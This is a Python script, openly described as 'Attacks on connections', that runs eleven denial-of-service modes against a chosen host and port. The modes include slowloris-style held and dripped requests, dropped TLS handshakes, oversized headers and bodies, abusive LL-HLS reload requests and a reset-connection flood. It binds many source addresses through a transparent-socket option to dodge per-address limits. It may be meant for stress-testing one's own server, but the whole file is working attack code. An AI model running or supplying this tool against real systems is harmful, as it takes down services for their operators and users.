"""Attacks on connections: `tcp.py KIND HOST PORT SECONDS [PATH]`.

hold      connects and says nothing, from one network, as many as the descriptors allow
drip      connects and sends a request's head byte by byte, from many networks
shake     begins TLS handshakes and drops each when the server has answered
heads     heads of 64 kB and garbage, one after the other
bodies    bodies that announce more than they have, or are megabytes
reload    holds blocking reloads of LL-HLS for the segment after the next, and asks again every second
far       asks for parts that nobody knows of yet
listen    takes streams and never reads them
leave     opens streams as fast as it can, and leaves with their first bytes
knock     connects, 500 at a time, and resets what came to be, from one network
follow    opens event streams as fast as it can and leaves
"""
import resource
import selectors
import socket
import sys
import time

from sources import connect, many_networks, noise, one_network, tell, until

FEW = min(18_000, resource.getrlimit(resource.RLIMIT_NOFILE)[1] - 200)


def raise_descriptors():
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def held(sources, to, seconds, first, again=None, most=FEW, window=None):
    """Opens connections as fast as it can and keeps them; those that are closed are opened anew. `first` is said at once, `again`
    every second."""
    lines, opened, closed = {}, 0, 0
    selector, spoken = selectors.DefaultSelector(), time.monotonic()
    for _ in until(seconds):
        for _ in range(100):
            if len(lines) >= most:
                break
            line = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            line.setblocking(False)
            if window:
                line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, window)
            try:
                line.setsockopt(socket.IPPROTO_IP, 24, 1)
                line.bind((next(sources), 0))
                line.connect_ex(to)
                selector.register(line, selectors.EVENT_WRITE)
            except OSError:
                line.close()
                break
            lines[line] = 0
            opened += 1
        for key, mask in selector.select(0.01):
            line = key.fileobj
            if window and mask & selectors.EVENT_WRITE:
                # Asked once, and never read again.
                selector.unregister(line)
                try:
                    line.send(first)
                except OSError:
                    pass
                continue
            try:
                if mask & selectors.EVENT_WRITE:
                    if first:
                        line.send(first)
                    selector.modify(line, selectors.EVENT_READ)
                elif not line.recv(4096):
                    raise OSError
            except OSError:
                selector.unregister(line)
                line.close()
                lines.pop(line, None)
                closed += 1
        if again and time.monotonic() - spoken >= 1:
            spoken = time.monotonic()
            for line in list(lines):
                try:
                    line.send(again)
                except OSError:
                    pass
    tell(opened=opened, closed=closed, open=len(lines))


def knock(sources, to, seconds):
    """As many connections as it can, none of which lives for longer than some milliseconds, answered or not."""
    sent = made = 0
    for _ in until(seconds):
        lines = []
        for _ in range(500):
            line = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            line.setblocking(False)
            line.setsockopt(socket.IPPROTO_IP, 24, 1)
            line.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
            line.bind((next(sources), 0))
            line.connect_ex(to)
            lines.append(line)
        sent += len(lines)
        time.sleep(0.002)
        for line in lines:
            made += line.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0 and is_made(line)
            line.close()
    tell(sent=sent, made=made)


def is_made(line):
    try:
        line.getpeername()
        return True
    except OSError:
        return False


def one_by_one(sources, to, seconds, say, patience=0.5):
    """Connections one after the other, each of which says something and hears a little."""
    made = refused = 0
    for n in until(seconds):
        line = connect(next(sources), to, patience)
        if line is None:
            refused += 1
            continue
        made += 1
        try:
            say(line, n)
        except OSError:
            pass
        line.close()
    tell(made=made, refused=refused)


def main(kind, host, port, seconds, path="/"):
    to, seconds = (host, int(port)), float(seconds)
    head = f"GET {path} HTTP/1.1\r\nHost: {host}\r\n"
    raise_descriptors()
    if kind == "hold":
        held(one_network(), to, seconds, b"")
    elif kind == "drip":
        held(many_networks(), to, seconds, head.encode(), b"X: y\r\n", most=6000)
    elif kind == "shake":
        hello = client_hello()
        def shake(line, _):
            line.sendall(hello)
            line.recv(1)
        one_by_one(one_network(), to, seconds, shake)
    elif kind == "heads":
        def heads(line, n):
            line.sendall(noise(4096) if n % 2 else (head + "Cookie: " + "a" * 65536 + "\r\n\r\n").encode())
            line.recv(64)
        one_by_one(many_networks(), to, seconds, heads)
    elif kind == "bodies":
        def bodies(line, n):
            length = [10 ** 12, 4 * 1024 * 1024, -1, 70_000][n % 4]
            fields = f"Content-Type: application/json\r\nContent-Length: {length}\r\n\r\n"
            line.sendall(f"POST {path} HTTP/1.1\r\nHost: {host}\r\n{fields}".encode() + b'{"a":[' * 11_000)
            line.recv(64)
        one_by_one(many_networks(), to, seconds, bodies)
    elif kind == "knock":
        knock(one_network(), to, seconds)
    elif kind == "reload":
        ask = f"GET {path}?_HLS_msn={newest(to, path) + 2} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
        held(one_network(), to, seconds, ask, ask, most=6000)
    elif kind == "far":
        far = f"GET {path}?_HLS_msn=9999999 HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
        held(one_network(), to, seconds, far, far, most=6000)
    elif kind == "listen":
        held(one_network(), to, seconds, (head + "\r\n").encode(), most=3000, window=2048)
    elif kind in ("follow", "leave"):
        def follow(line, _):
            line.sendall((head + "\r\n").encode())
            line.recv(64)
        one_by_one(many_networks(), to, seconds, follow)
    else:
        sys.exit(__doc__)


def newest(to, path):
    """The number of the newest segment of a playlist."""
    line = connect("10.77.16.1", to)
    line.sendall(f"GET {path} HTTP/1.1\r\nHost: {to[0]}\r\nConnection: close\r\n\r\n".encode())
    text = b""
    while more := line.recv(65536):
        text += more
    first = int(text.split(b"#EXT-X-MEDIA-SEQUENCE:")[1].split()[0])
    return first + text.count(b"#EXTINF:")


def client_hello():
    """The first flight of a real client, caught from this machine's own."""
    import ssl
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["http/1.1"])
    inward, outward = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        context.wrap_bio(inward, outward, server_hostname="attacked").do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outward.read()


main(*sys.argv[1:])
